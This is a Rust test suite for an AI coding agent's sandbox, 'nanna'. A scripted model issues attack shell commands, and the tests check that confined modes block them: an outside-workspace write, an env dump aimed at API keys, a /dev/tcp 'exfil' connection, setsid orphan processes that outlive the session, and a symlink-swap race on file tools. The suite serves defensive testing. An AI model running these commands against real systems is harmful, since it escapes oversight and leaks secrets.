@@ -1,0 +1,506 @@
+//! Issue 9's attack suite through the real `nanna` binary: a scripted model issues the
+//! attacks as `shell` calls under `nanna exec --approval auto --sandbox MODE`, and the same
+//! commands run under `nanna sandbox --mode MODE -- sh -c ...`. In `read-only` and
+//! `workspace-write` every attack must fail and the legitimate work must succeed; `full`
+//! is unconfined by design, but keeps the environment scrubbing and the process lifetime.
+//!
+//! Before this suite's fixes (the same attacks against the previous binary): outside write,
+//! `env` key read, TCP connect and `setsid` orphans succeeded in workspace-write and full;
+//! orphans survived SIGTERM/SIGHUP/SIGKILL of nanna; a resumed session said "cancelled by
+//! the user"; 1 of 300 `read_file` and 1 of 300 `write_file` calls escaped through a
+//! directory/symlink swap.
+//!
+//! Skipped (with a message) where the confined modes cannot be enforced, unless
+//! NANNA_TEST_REQUIRE_SANDBOX=1 (CI).
+
+mod common;
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Output;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::time::{Duration, Instant};
+
+use common::*;
+use nanna_sandbox::{SandboxMode, Support};
+use nanna_testkit::{Script, Turn};
+use serde_json::{Value, json};
+
+fn enforced() -> bool {
+    match Support::probe().check(SandboxMode::WorkspaceWrite) {
+        Ok(()) => true,
+        Err(e) if std::env::var("NANNA_TEST_REQUIRE_SANDBOX").as_deref() == Ok("1") => {
+            panic!("NANNA_TEST_REQUIRE_SANDBOX=1 but the sandbox is not enforced: {e}")
+        }
+        Err(e) => {
+            eprintln!("skipping: {e}");
+            false
+        }
+    }
+}
+
+/// A distinct number per mode, for markers in process names and files.
+fn tag(mode: SandboxMode) -> u32 {
+    match mode {
+        SandboxMode::ReadOnly => 1,
+        SandboxMode::WorkspaceWrite => 2,
+        SandboxMode::Full => 3,
+    }
+}
+
+/// Host pids of processes whose command line contains `marker`.
+fn pids_of(marker: &str) -> Vec<String> {
+    let out = std::process::Command::new("pgrep")
+        .args(["-f", marker])
+        .output()
+        .expect("pgrep runs");
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .map(str::to_owned)
+        .collect()
+}
+
+/// Waits up to 3 s for every process of `marker` to be gone; returns those left (and kills
+/// them, so a failing test leaves nothing behind).
+fn survivors(marker: &str) -> Vec<String> {
+    let deadline = Instant::now() + Duration::from_secs(3);
+    loop {
+        let left = pids_of(marker);
+        if left.is_empty() || Instant::now() > deadline {
+            for pid in &left {
+                let _ = std::process::Command::new("kill")
+                    .args(["-9", pid])
+                    .status();
+            }
+            return left;
+        }
+        std::thread::sleep(Duration::from_millis(25));
+    }
+}
+
+/// The attacks, as shell commands; `{out}` is a directory outside the workspace, `{port}` a
+/// TCP listener of the test, `{m}` the marker of this run's processes.
+fn attacks(outside: &Path, port: u16, m: &str) -> Vec<(&'static str, String)> {
+    vec![
+        (
+            "outside write",
+            format!("echo pwned > {}/x", outside.display()),
+        ),
+        ("key read", "env".to_owned()),
+        (
+            "tcp connect",
+            format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo exfil >&3'"),
+        ),
+        (
+            "orphans",
+            format!(
+                "setsid sleep {m}1 >/dev/null 2>&1 & nohup sleep {m}2 >/dev/null 2>&1 & \
+                 (setsid sh -c 'sleep {m}3 &' &); sleep 0.3; echo started"
+            ),
+        ),
+    ]
+}
+
+/// Runs the attacks through the model under `mode`; returns each call's (ok, output).
+fn attack_through_exec(mode: SandboxMode, extra: &[&str]) -> Vec<(bool, String)> {
+    let outside = tempfile::tempdir().expect("tempdir");
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let marker = format!("424{}", tag(mode));
+    let list = attacks(outside.path(), port, &marker);
+    let mut turn = Turn::tool_call("shell", json!({"command": list[0].1}));
+    for (_, cmd) in &list[1..] {
+        turn = turn.with_tool_call("shell", json!({"command": cmd}));
+    }
+    let env = Env::new(Script::new().turn(turn).turn(Turn::text("done")));
+    let mut cmd = env.nanna();
+    cmd.env("NANNA_API_KEY", "sk-nanna-secret")
+        .env("OPENAI_API_KEY", "sk-openai-secret")
+        .args([
+            "exec",
+            "--json",
+            "--approval",
+            "auto",
+            "--sandbox",
+            mode.as_str(),
+        ])
+        .args(extra)
+        .arg("attack");
+    let out = run(&mut cmd, None);
+    assert_exit(&out, 0);
+    let results = results(&out);
+    assert_eq!(results.len(), list.len(), "{}", stdout(&out));
+
+    let confined = mode.is_confined() && !extra.contains(&"--network");
+    let wrote = outside.path().join("x").exists();
+    assert_eq!(
+        wrote,
+        !mode.is_confined(),
+        "{mode}: outside write: {:?}",
+        results[0]
+    );
+    let all: String = results.iter().map(|r| r.1.as_str()).collect();
+    assert!(
+        !all.contains("sk-"),
+        "{mode}: a key reached a command: {}",
+        results[1].1
+    );
+    assert!(results[1].1.contains("PATH="), "{}", results[1].1);
+    let connected = listener.accept().is_ok();
+    assert_eq!(
+        connected, !confined,
+        "{mode}: tcp connect: {:?}",
+        results[2]
+    );
+    assert!(results[3].1.contains("started"), "{:?}", results[3]);
+    assert_eq!(
+        survivors(&format!("sleep {marker}")),
+        Vec::<String>::new(),
+        "{mode}: processes outlived their command"
+    );
+    results
+}
+
+/// `(ok, output)` of every tool result event.
+fn results(out: &Output) -> Vec<(bool, String)> {
+    json_lines(out)
+        .into_iter()
+        .filter(|e| e["type"] == "tool_result")
+        .map(|e| {
+            (
+                e["ok"].as_bool().unwrap_or(false),
+                e["output"].as_str().unwrap_or("").to_owned(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn attacks_through_the_model_fail_in_the_confined_modes() {
+    if !enforced() {
+        return;
+    }
+    for mode in SandboxMode::ALL {
+        attack_through_exec(mode, &[]);
+    }
+    // --network opens the network, and only the network.
+    attack_through_exec(SandboxMode::WorkspaceWrite, &["--network"]);
+}
+
+#[test]
+fn attacks_through_nanna_sandbox_fail_in_the_confined_modes() {
+    if !enforced() {
+        return;
+    }
+    let env = Env::server_down();
+    for mode in SandboxMode::ALL {
+        let outside = tempfile::tempdir().expect("tempdir");
+        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+        listener.set_nonblocking(true).expect("nonblocking");
+        let port = listener.local_addr().expect("addr").port();
+        let marker = format!("434{}", tag(mode));
+        for (name, script) in attacks(outside.path(), port, &marker) {
+            let out = run(
+                env.bare().env("NANNA_API_KEY", "sk-nanna-secret").args([
+                    "sandbox",
+                    "--mode",
+                    mode.as_str(),
+                    "--",
+                    "sh",
+                    "-c",
+                    &script,
+                ]),
+                None,
+            );
+            let text = format!("{}{}", stdout(&out), stderr(&out));
+            match name {
+                "outside write" => {
+                    assert_eq!(out.status.success(), !mode.is_confined(), "{mode}: {text}");
+                    assert_eq!(outside.path().join("x").exists(), !mode.is_confined());
+                }
+                "key read" => assert!(!text.contains("sk-"), "{mode}: {text}"),
+                "tcp connect" => {
+                    assert_eq!(out.status.success(), !mode.is_confined(), "{mode}: {text}");
+                    assert_eq!(listener.accept().is_ok(), !mode.is_confined(), "{mode}");
+                }
+                _ => {
+                    assert_exit(&out, 0);
+                    assert_eq!(
+                        survivors(&format!("sleep {marker}")),
+                        Vec::<String>::new(),
+                        "{mode}: processes outlived `nanna sandbox`"
+                    );
+                }
+            }
+        }
+    }
+    // The exit status is the command's.
+    let out = run(
+        env.bare().args(["sandbox", "--", "sh", "-c", "exit 7"]),
+        None,
+    );
+    assert_exit(&out, 7);
+}
+
+#[test]
+fn legitimate_work_succeeds_in_workspace_write() {
+    if !enforced() {
+        return;
+    }
+    let work = "\
+        printf 'int main(void){return 0;}\\n' > main.c && cc -o main main.c && ./main && \
+        echo built; \
+        echo scratch > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"; \
+        git init -q . && echo hi > a.txt && git add a.txt && \
+        git -c user.name=T -c user.email=t@example.org commit -qm first && git log --oneline";
+    let env = Env::new(
+        Script::new()
+            .turn(Turn::tool_call("shell", json!({"command": work})))
+            .turn(Turn::text("done")),
+    );
+    let out = run(
+        env.nanna()
+            .args(["exec", "--json", "--full-auto", "do the work"]),
+        None,
+    );
+    assert_exit(&out, 0);
+    let results = results(&out);
+    let output = &results[0].1;
+    let has_cc = std::process::Command::new("cc")
+        .arg("--version")
+        .output()
+        .is_ok();
+    if has_cc {
+        assert!(output.contains("built"), "{output}");
+        assert!(env.path("main").exists());
+    }
+    assert!(output.contains("scratch"), "{output}");
+    assert!(output.contains("first"), "{output}");
+    assert!(output.ends_with("[exit code 0]"), "{output}");
+}
+
+#[test]
+fn orphans_die_with_nanna_on_every_signal_and_resume_says_interrupted() {
+    if !enforced() {
+        return;
+    }
+    for (n, signal) in [(1, libc::SIGTERM), (2, libc::SIGHUP), (3, libc::SIGKILL)] {
+        for mode in SandboxMode::ALL {
+            let marker = format!("45{n}{}", tag(mode));
+            let env = Env::new(
+                Script::new()
+                    .turn(Turn::tool_call(
+                        "shell",
+                        json!({"command": format!("setsid sleep {marker}1 & sleep {marker}2")}),
+                    ))
+                    .turn(Turn::text("resumed")),
+            );
+            let mut child = env
+                .nanna()
+                .args([
+                    "exec",
+                    "--json",
+                    "--approval",
+                    "auto",
+                    "--sandbox",
+                    mode.as_str(),
+                    "go",
+                ])
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::null())
+                .spawn()
+                .expect("nanna starts");
+            let deadline = Instant::now() + Duration::from_secs(20);
+            while pids_of(&format!("sleep {marker}")).len() < 2 {
+                assert!(
+                    Instant::now() < deadline,
+                    "{mode}: the command never started"
+                );
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            // SAFETY: kill with a pid of our own child.
+            unsafe { libc::kill(child.id() as i32, signal) };
+            let _ = child.wait();
+            assert_eq!(
+                survivors(&format!("sleep {marker}")),
+                Vec::<String>::new(),
+                "{mode}: processes outlived nanna after signal {signal}"
+            );
+            if signal == libc::SIGKILL {
+                let out = run(
+                    env.nanna().args([
+                        "exec",
+                        "--json",
+                        "--resume",
+                        "--sandbox",
+                        mode.as_str(),
+                        "go on",
+                    ]),
+                    None,
+                );
+                assert_exit(&out, 0);
+                let requests = env.chat_requests();
+                let resumed = requests.last().expect("a request after resume");
+                let tool = resumed
+                    .messages()
+                    .iter()
+                    .find(|m| m["role"] == "tool")
+                    .map(|m| m["content"].as_str().unwrap_or("").to_owned())
+                    .unwrap_or_default();
+                assert!(tool.contains("interrupted: nanna exited"), "{mode}: {tool}");
+                assert!(!tool.contains("cancelled by the user"), "{mode}: {tool}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_symlink_swap_race_never_leads_the_file_tools_outside() {
+    const CALLS: u32 = 150;
+    let env = Env::new(
+        Script::new()
+            .turn(
+                Turn::tool_call("read_file", json!({"path": "d/secret"}))
+                    .with_tool_call(
+                        "write_file",
+                        json!({"path": "d/w.txt", "content": "pwned\n"}),
+                    )
+                    .repeat(CALLS),
+            )
+            .turn(Turn::text("done")),
+    );
+    let outside = tempfile::tempdir().expect("tempdir");
+    std::fs::create_dir(env.path("d")).expect("mkdir");
+    env.write("d/secret", "inside\n");
+    std::fs::write(outside.path().join("secret"), "OUTSIDE-SECRET\n").expect("write");
+    let stop = Arc::new(AtomicBool::new(false));
+    let swaps = Arc::new(AtomicUsize::new(0));
+    let swapper = {
+        let (d, real) = (env.path("d"), env.path("d.real"));
+        let target = outside.path().to_path_buf();
+        let (stop, swaps) = (stop.clone(), swaps.clone());
+        std::thread::spawn(move || {
+            while !stop.load(Ordering::Relaxed) {
+                if std::fs::rename(&d, &real).is_ok() {
+                    let _ = std::os::unix::fs::symlink(&target, &d);
+                    std::thread::yield_now();
+                    let _ = std::fs::remove_file(&d);
+                    let _ = std::fs::rename(&real, &d);
+                    swaps.fetch_add(1, Ordering::Relaxed);
+                }
+            }
+        })
+    };
+    let out = run(
+        env.nanna().args([
+            "exec",
+            "--json",
+            "--full-auto",
+            "--max-turns",
+            "1000",
+            "read and write",
+        ]),
+        None,
+    );
+    stop.store(true, Ordering::Relaxed);
+    let _ = swapper.join();
+    assert_exit(&out, 0);
+    assert!(
+        swaps.load(Ordering::Relaxed) > 10,
+        "the swapper did not run"
+    );
+    let results = results(&out);
+    assert_eq!(results.len(), 2 * CALLS as usize);
+    let leaks = results
+        .iter()
+        .filter(|r| r.1.contains("OUTSIDE-SECRET"))
+        .count();
+    assert_eq!(leaks, 0, "reads escaped");
+    assert!(!outside.path().join("w.txt").exists(), "a write escaped");
+}
+
+#[test]
+fn without_bubblewrap_commands_are_refused_never_run_unconfined() {
+    let env = Env::new(
+        Script::new()
+            .turn(Turn::tool_call(
+                "shell",
+                json!({"command": "echo ran > ran.txt"}),
+            ))
+            .turn(Turn::text("done")),
+    );
+    let out = run(
+        env.nanna().env("NANNA_BWRAP", "/nonexistent/bwrap").args([
+            "exec",
+            "--json",
+            "--full-auto",
+            "try",
+        ]),
+        None,
+    );
+    assert_exit(&out, 0);
+    let events = json_lines(&out);
+    let warning: Vec<&Value> = events.iter().filter(|e| e["type"] == "warning").collect();
+    assert!(
+        warning
+            .iter()
+            .any(|w| w["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("shell is not available")
+                    && m.contains("apt install bubblewrap"))),
+        "{warning:?}"
+    );
+    // Not offered, and refused with the reason when called anyway.
+    let offered = env.chat_requests()[0].tools().to_vec();
+    assert!(
+        !offered.iter().any(|t| t["function"]["name"] == "shell"),
+        "{offered:?}"
+    );
+    let results = results(&out);
+    assert!(
+        !results[0].0 && results[0].1.contains("cannot be enforced"),
+        "{:?}",
+        results[0]
+    );
+    assert!(!env.path("ran.txt").exists(), "the command ran unconfined");
+
+    let out = run(
+        env.bare().env("NANNA_BWRAP", "/nonexistent/bwrap").args([
+            "sandbox",
+            "--",
+            "sh",
+            "-c",
+            "echo ran > ran.txt",
+        ]),
+        None,
+    );
+    assert_exit(&out, 1);
+    assert!(
+        stderr(&out).contains("bubblewrap not found at /nonexistent/bwrap"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!env.path("ran.txt").exists());
+    // `full` stays usable, unconfined by choice.
+    let out = run(
+        env.bare().env("NANNA_BWRAP", "/nonexistent/bwrap").args([
+            "sandbox",
+            "--mode",
+            "full",
+            "--",
+            "sh",
+            "-c",
+            "echo ran > ran.txt",
+        ]),
+        None,
+    );
+    assert_exit(&out, 0);
+    let mut text = String::new();
+    std::fs::File::open(env.path("ran.txt"))
+        .and_then(|mut f| f.read_to_string(&mut text))
+        .expect("full ran");
+    assert_eq!(text, "ran\n");
+}
